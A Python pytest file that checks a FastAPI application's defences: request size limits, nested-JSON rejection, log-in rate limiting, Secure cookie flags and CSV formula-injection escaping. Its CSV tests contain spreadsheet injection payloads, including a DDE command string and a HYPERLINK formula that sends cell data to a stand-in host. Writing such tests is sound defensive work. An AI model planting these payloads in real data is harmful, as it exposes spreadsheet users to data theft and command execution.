"""Hostile requests against the real application: bodies over the size limit (declared or
chunked) get 413 with a message, never 500; deeply nested JSON is a 4xx; log-in is rate-limited
and checks passwords off the event loop; the session cookie is Secure over TLS or when the
setting says so; CSV exports are safe against formula injection."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import asyncpg
import pytest
from fastapi.testclient import TestClient

import api.security
from api.app import create_app
from api.body_limit import BodySizeLimit
from api.csv_safe import csv_text, safe_cell
from api.ratelimit import RateLimit
from api.routers.privacy import export_csv
from api.security import hash_password_async
from core.db.privacy import SubjectExport
from tests.api.conftest import PASSWORD, Seed, login
from tests.api.conftest import test_settings as settings_for

pytestmark = pytest.mark.integration
SMALL, UPLOAD = 4096, 16384
NOW = datetime(2026, 11, 27, 12, tzinfo=UTC)


@pytest.fixture
def small(seeded: Seed, parking_model_file: Path, tmp_path: Path) -> Iterator[TestClient]:
    """The application with a 4 KiB body limit and a 16 KiB upload limit."""
    settings = settings_for(tmp_path).model_copy(
        update={"max_body_bytes": SMALL, "max_upload_bytes": UPLOAD}
    )
    app = create_app(
        settings,
        seeded.dsn,
        parking_model_path=parking_model_file,
        citizen_limit=RateLimit(1000, 1000),
    )
    with TestClient(app) as c:
        yield c


def _chunks(total: int) -> Iterator[bytes]:
    for _ in range(total // 1024):
        yield b"a" * 1024


def test_bodies_over_the_limit_get_413_declared_or_chunked(small: TestClient) -> None:
    """A declared Content-Length and a chunked body over 4 KiB both get 413 with a message;
    a body under the limit is served as before."""
    form = {"username": "planner", "password": "x" * (SMALL + 10)}
    declared = small.post("/auth/token", data=form)
    assert declared.status_code == 413, declared.text
    assert "too large" in declared.json()["detail"] and "4096 bytes" in declared.json()["detail"]
    chunked = small.post(
        "/auth/token",
        content=_chunks(SMALL * 2),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert chunked.status_code == 413 and "too large" in chunked.json()["detail"]
    assert small.post("/auth/token", data={"username": "planner", "password": PASSWORD}).is_success
    page = small.post(
        "/login", data=form, headers={"Accept": "text/html", "Sec-Fetch-Site": "same-origin"}
    )
    assert page.status_code == 413 and "<html" in page.text and "4096 bytes" in page.text


def test_the_inventory_upload_has_its_own_larger_limit(small: TestClient) -> None:
    """8 KiB passes the upload's limit (then the import judges the file); 20 KiB does not."""
    auth = login(small, "planner")
    rows = "bin_id,lon,lat\n" + "".join(f"b{i},12.5,55.6\n" for i in range(600))
    ok = small.post(
        "/api/admin/import",
        params={"kind": "bins", "dry_run": True},
        files={"file": ("bins.csv", rows[: 8 * 1024].encode(), "text/csv")},
        headers=auth,
    )
    assert ok.status_code in (200, 422), ok.text
    big = small.post(
        "/api/admin/import",
        params={"kind": "bins", "dry_run": True},
        files={"file": ("bins.csv", (rows * 3).encode(), "text/csv")},
        headers=auth,
    )
    assert big.status_code == 413 and "16384 bytes" in big.json()["detail"]


def test_deeply_nested_json_is_a_client_error(client: TestClient) -> None:
    """A JSON body nested 100,000 deep (about 200 KB) is refused with 4xx, not a 500."""
    auth = login(client, "driver1")
    r = client.post(
        "/driver/routes/truck-a/stops/1",
        content=b"[" * 100_000 + b"]" * 100_000,
        headers={**auth, "Content-Type": "application/json"},
    )
    assert 400 <= r.status_code < 500, r.text


def test_the_middleware_answers_413_if_nothing_else_does() -> None:
    """An application that lets the exception escape still answers 413 with a message."""

    async def app(scope, receive, send):  # type: ignore[no-untyped-def]
        while (await receive()).get("more_body"):
            pass

    sent: list[dict[str, object]] = []
    messages = iter([{"type": "http.request", "body": b"x" * 600, "more_body": True}] * 3)

    async def receive():  # type: ignore[no-untyped-def]
        return next(messages)

    async def send(message):  # type: ignore[no-untyped-def]
        sent.append(message)

    scope = {"type": "http", "path": "/x", "headers": []}
    asyncio.run(BodySizeLimit(app, 1024)(scope, receive, send))
    assert sent[0]["status"] == 413 and b"1024 bytes" in sent[1]["body"]  # type: ignore[operator]


def test_password_checks_run_off_the_event_loop(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Argon2 runs in a worker thread for both log-ins and for hashing: no event loop runs in
    the thread that verifies."""
    threads: list[tuple[str, bool]] = []
    verify, hash_ = api.security.verify_password, api.security.hash_password

    def on_loop() -> bool:
        try:
            asyncio.get_running_loop()
        except RuntimeError:
            return False
        return True

    def spy_verify(password: str, password_hash: str | None) -> bool:
        threads.append(("verify", on_loop()))
        return verify(password, password_hash)

    def spy_hash(password: str) -> str:
        threads.append(("hash", on_loop()))
        return hash_(password)

    monkeypatch.setattr(api.security, "verify_password", spy_verify)
    monkeypatch.setattr(api.security, "hash_password", spy_hash)
    login(client, "planner")
    client.post("/login", data={"username": "planner", "password": "wrong"})
    asyncio.run(hash_password_async("a new password"))
    assert [t for t, _ in threads] == ["verify", "verify", "hash"]
    assert not any(on for _, on in threads), threads
    assert threading.current_thread() is threading.main_thread()


def test_token_log_in_is_rate_limited(app_factory) -> None:  # type: ignore[no-untyped-def]
    """Guessing passwords at /auth/token from one client runs into 429."""
    with TestClient(app_factory(citizen_limit=RateLimit(rate=0.01, burst=2))) as c:
        codes = [
            c.post("/auth/token", data={"username": "planner", "password": "guess"}).status_code
            for _ in range(3)
        ]
    assert codes == [401, 401, 429]


def _cookie_flags(client: TestClient) -> str:
    r = client.post(
        "/login",
        data={"username": "planner", "password": PASSWORD},
        headers={"Sec-Fetch-Site": "same-origin"},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text
    return r.headers["set-cookie"].lower()


def test_session_cookie_is_secure_over_tls_or_by_setting(
    seeded: Seed, parking_model_file: Path, tmp_path: Path
) -> None:
    """Plain HTTP in a test environment: not Secure; over HTTPS, or with the setting on: Secure
    (production's default)."""

    def app(**settings: object):  # type: ignore[no-untyped-def]
        s = settings_for(tmp_path).model_copy(update=settings)
        return create_app(s, seeded.dsn, parking_model_path=parking_model_file)

    with TestClient(app()) as c:
        assert "secure" not in _cookie_flags(c)
    with TestClient(app(), base_url="https://testserver") as c:
        assert "; secure" in _cookie_flags(c)
    with TestClient(app(cookie_secure=True)) as c:
        assert "; secure" in _cookie_flags(c)
    prod = settings_for(tmp_path).model_copy(update={"environment": "production"})
    assert prod.secure_cookies() and not settings_for(tmp_path).secure_cookies()


def test_csv_cells_never_start_a_formula() -> None:
    """Text starting with = + - @ tab CR LF (after spaces) is quoted; numbers stay numbers."""
    for bad in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =cmd|' /C calc'!A0"):
        assert str(safe_cell(bad)).startswith("'"), bad
    assert safe_cell(-2.5) == -2.5 and safe_cell("Nørrebrogade") == "Nørrebrogade"
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [['=HYPERLINK("x")'], [3]]))))
    assert rows == [["name"], ['\'=HYPERLINK("x")'], ["3"]]


def test_open_data_and_subject_export_csv_are_safe(client: TestClient, seeded: Seed) -> None:
    """A parking site and a driver's skip reason named like formulas come out quoted."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    async def rename() -> None:
        conn = await asyncpg.connect(seeded.dsn)
        try:
            await conn.execute("UPDATE parking_sites SET name = $1", evil)
        finally:
            await conn.close()

    asyncio.run(rename())
    r = client.get("/open/parking-occupancy")
    names = {row["name"] for row in csv.DictReader(io.StringIO(r.text))}
    assert names == {"'" + evil}

    report = {"vehicle_id": "truck-a", "reported_at": "2026-11-27T10:00:00+00:00"}
    x = SubjectExport(
        "driver1", "driver", ("truck-a",), NOW, False, None, None, NOW,
        stop_reports=[{**report, "street": "-1+cmd", "skip_reason": evil}],
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(export_csv(x))))
    assert rows[1]["skip_reason"] == "'" + evil and rows[1]["street"] == "'-1+cmd"
